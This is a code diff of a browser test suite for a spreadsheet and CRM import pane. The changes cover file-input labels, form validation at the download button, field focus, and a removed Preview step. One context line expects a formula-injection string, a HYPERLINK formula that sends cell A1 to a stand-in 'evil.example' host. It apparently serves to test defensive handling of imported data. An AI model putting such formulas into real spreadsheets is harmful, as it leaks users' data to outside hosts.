@@ -286,7 +286,7 @@ describeWithChromium("pane in a browser: fill, download, recalculate", () => {
       await page.getByLabel("Load an export file").setInputFiles(path.join(fixtures, "zoho-deals.csv"));
       await page.getByTestId("crm-status").waitFor({ timeout: 20000 });
       expect(await page.getByTestId("crm-status").textContent()).toContain("Recognised: Zoho CRM Deals.");
-      await page.getByLabel("Load a CSV file").setInputFiles(path.join(fixtures, "roster.csv"));
+      await page.getByLabel("Load a CSV or .xlsx file").setInputFiles(path.join(fixtures, "roster.csv"));
       await page.getByTestId("roster-status").waitFor();
       await typeInto(page, "KPI periods", "2027-Q1");
       await typeInto(page, "As-of date for follow-ups", "2027-03-31");
@@ -337,15 +337,26 @@ describeWithChromium("pane in a browser: fill, download, recalculate", () => {
       expect(texts).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Open deal")');
     }, 180000);
 
-    it("shows the schema's message beside a field, typed by keyboard, and writes nothing", async () => {
+    it("shows the schema's message beside a field and at the button, focuses the field, writes nothing", async () => {
       await openTab(page, "Goal sheet");
       await pasteRoster(page, ROSTER_TSV);
       await typeInto(page, "Period", "2027-Q5");
       const message = page.getByText("write 2027-Q1, 2027-H1, 2027-03 or 2027");
-      await message.waitFor();
-      await pressButton(page, "Preview");
+      await message.first().waitFor();
+      let downloads = 0;
+      page.on("download", () => downloads++);
+      await pressButton(page, "Download .xlsx");
+      await page.getByTestId("form-problems").waitFor();
+      expect(await page.getByTestId("form-problems").textContent()).toContain("Period: ");
+      expect(await page.evaluate(() => (document.activeElement as HTMLElement | null)?.id)).toBe(
+        await page.getByRole("textbox", { name: "Period" }).getAttribute("id"),
+      );
       expect(await page.getByTestId("preview").count()).toBe(0);
-      expect(await page.getByRole("button", { name: "Download .xlsx" }).isDisabled()).toBe(true);
+      await page.waitForTimeout(500);
+      expect(downloads).toBe(0);
+      // Fixed: the list at the button goes.
+      await typeInto(page, "Period", "2027-Q1");
+      await page.getByTestId("form-problems").waitFor({ state: "detached" });
     }, 60000);
   });
 
@@ -365,11 +376,10 @@ describeWithChromium("pane in a browser: fill, download, recalculate", () => {
         .getByLabel("Load an export file")
         .setInputFiles({ name: "deals.csv", mimeType: "text/csv", buffer: Buffer.from(csv) });
       await page.getByTestId("crm-status").waitFor({ timeout: 20000 });
-      await page.getByLabel("Load a CSV file").setInputFiles(path.join(fixtures, "roster.csv"));
+      await page.getByLabel("Load a CSV or .xlsx file").setInputFiles(path.join(fixtures, "roster.csv"));
       await page.getByTestId("roster-status").waitFor();
       await typeInto(page, "KPI periods", "2027-Q1");
       await typeInto(page, "As-of date for follow-ups", "2027-03-31");
-      await pressButton(page, "Preview");
       await page.getByTestId("preview").waitFor({ timeout: 20000 });
 
       await watchMainThread(page);
